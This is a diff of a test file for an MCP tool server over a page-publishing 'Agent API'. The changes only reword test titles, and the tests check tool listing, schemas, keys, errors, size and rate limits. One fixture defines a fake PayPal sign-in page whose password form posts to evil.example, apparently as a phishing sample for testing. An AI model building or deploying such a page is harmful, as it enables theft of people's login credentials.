@@ -22,7 +22,7 @@ afterAll(() => ctx.close())
 const page = '<!doctype html><title>Tide</title><h1>Tide</h1>'
 
 describe('the list', () => {
-  test('follows the description: names, summaries, at most 35, each time the same', async () => {
+  test('has names and summaries of the description, at most 35 tools, in a stable order', async () => {
     const operations = new Map(
       operationsOf(await documentOf(ctx)).map((operation) => [operation.operationId, operation]),
     )
@@ -38,7 +38,7 @@ describe('the list', () => {
     }
   })
 
-  test('has a core of eleven', async () => {
+  test('has a core of 11 tools', async () => {
     const names = (await listTools(ctx, '?tools=core')).map(({ name }) => name)
     expect(names).toEqual([
       'start',
@@ -56,7 +56,7 @@ describe('the list', () => {
     expect(tools.slice(0, 11).map(({ name }) => name)).toEqual(names)
   })
 
-  test('has every operation that document 1 numbers, but the description itself', () => {
+  test('has every numbered operation of document 1 except the description', () => {
     const names = tools.map(({ name }) => name)
     expect(names).toEqual(
       expect.arrayContaining([
@@ -79,14 +79,14 @@ describe('the list', () => {
     )
   })
 
-  test('shows one area, or everything for an area that is none', async () => {
+  test('lists one area, or all tools for an unknown area', async () => {
     const names = (await listTools(ctx, '?tools=assets')).map(({ name }) => name)
     expect(names).toContain('put_asset')
     expect(names).not.toContain('get_me')
     expect(await listTools(ctx, '?tools=nothing')).toEqual(tools)
   })
 
-  test('has, area by area, all of an agent but streams and files, as the docs say', async () => {
+  test('has all operations of agents except streams and files, as the docs say', async () => {
     const operations = operationsOf(await documentOf(ctx))
     const areas = new Set(operations.map(({ tags }) => String(tags[0]).toLowerCase()))
     const lists = [...areas].map((area) => listTools(ctx, `?tools=${area.replaceAll(' ', '-')}`))
@@ -111,7 +111,7 @@ describe('the list', () => {
     }
   })
 
-  test('says what a tool does to things', () => {
+  test('describes the effects of a tool', () => {
     const hints = Object.fromEntries(tools.map(({ name, annotations }) => [name, annotations]))
     const [no, yes] = [false, true]
     const of = (readOnlyHint: boolean, destructiveHint: boolean, idempotentHint: boolean) => ({
@@ -127,7 +127,7 @@ describe('the list', () => {
     })
   })
 
-  test('has schemas of objects that stand alone', () => {
+  test('has self-contained object schemas', () => {
     const ajv = new Ajv2020({ strict: false, validateFormats: false })
     for (const { name, inputSchema, outputSchema } of tools) {
       for (const schema of [inputSchema, outputSchema]) {
@@ -143,7 +143,7 @@ describe('the list', () => {
   })
 })
 
-test('of a hundred operations, 35 are shown, and some of each area', () => {
+test('of 100 operations, 35 are listed, with some of each area', () => {
   const operations = Array.from({ length: 100 }, (_, at): DescribedOperation => ({
     operationId: at === 99 ? 'start' : `do_${at}`,
     summary: 'Do.',
@@ -163,7 +163,7 @@ test('of a hundred operations, 35 are shown, and some of each area', () => {
 })
 
 describe('a call', () => {
-  test('is a request to the Agent API: the same answer, structured and as text', async () => {
+  test('is a request to the Agent API, with the same response as structure and text', async () => {
     const id = await ann.publish({ html: page })
     for (const [name, path] of [
       ['get_app', `/apps/${id}`],
@@ -183,7 +183,7 @@ describe('a call', () => {
     expect(content).toEqual([{ type: 'text', text: page }])
   })
 
-  test('says what its schema says it does', async () => {
+  test('returns what its output schema describes', async () => {
     const ajv = new Ajv2020({ strict: false, validateFormats: false })
     const id = await ann.publish({ html: page })
     const args = { id, key: ann.key, html: page }
@@ -199,7 +199,7 @@ describe('a call', () => {
     }
   })
 
-  test('takes its key as a header or as an argument, which wins; nowhere else', async () => {
+  test('reads its key from the argument, then the header, and nowhere else', async () => {
     const me = async (...[args, message]: [unknown?, Parameters<typeof send>[3]?]) => {
       const { structuredContent } = await callTool(ctx, 'get_me', args, message)
       return structuredContent['handle'] ?? structuredContent['code']
@@ -215,14 +215,14 @@ describe('a call', () => {
     expect(await me({ key: 'ak_no' })).toBe('bad_key')
   })
 
-  test('takes a flag as a boolean', async () => {
+  test('accepts a flag as a boolean', async () => {
     for (const unread of [true, false]) {
       const { structuredContent } = await callTool(ctx, 'list_notes', { unread, key: ann.key })
       expect(structuredContent).toMatchObject({ notes: [], next: null })
     }
   })
 
-  test('refuses in the words of the Agent API', async () => {
+  test('returns the errors of the Agent API', async () => {
     const id = await ann.publish({ html: page })
     const cases = [
       ['get_app', { id: 'AAAAAAAAAAAA' }, 'GET', '/apps/AAAAAAAAAAAA'],
@@ -240,14 +240,14 @@ describe('a call', () => {
     }
   })
 
-  test('makes a page as large as one may be, and larger is refused', async () => {
+  test('publishes a page of the maximum size, and a larger one fails', async () => {
     const filler = (bytes: number) => page + ' '.repeat(bytes - page.length)
     const publish = (html: string) => callTool(ctx, 'publish_app', { html, key: ann.key })
     expect((await publish(filler(4 * 1_048_576))).isError).toBeUndefined()
     expect((await publish(filler(4 * 1_048_576 + 1))).structuredContent['code']).toBe('too_large')
   })
 
-  test('counts in the rate of its address, as a request does', async () => {
+  test('counts against the rate limit of its address', async () => {
     const busy = await openTestHouse({ REQUESTS_PER_MINUTE: '3' })
     const codes: unknown[] = []
     for (let call = 0; call < 4; call += 1) {
@@ -263,7 +263,7 @@ describe('a call', () => {
 const steal =
   '<!doctype html><title>PayPal</title><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form>'
 
-test('both eras are spoken at one address', async () => {
+test('both protocol eras work at one URL', async () => {
   const { message } = await post(ctx, {
     jsonrpc: '2.0',
     id: 1,
@@ -283,7 +283,7 @@ test('both eras are spoken at one address', async () => {
   })
 })
 
-test('where the Agent API is not open, neither is this', async () => {
+test('MCP is off where the Agent API is off', async () => {
   const closed = await openTestHouse({ AGENTS_ON: 'off' })
   const { status, code } = await send(closed, 'tools/list')
   expect([status, code]).toEqual([404, 'agents_off'])
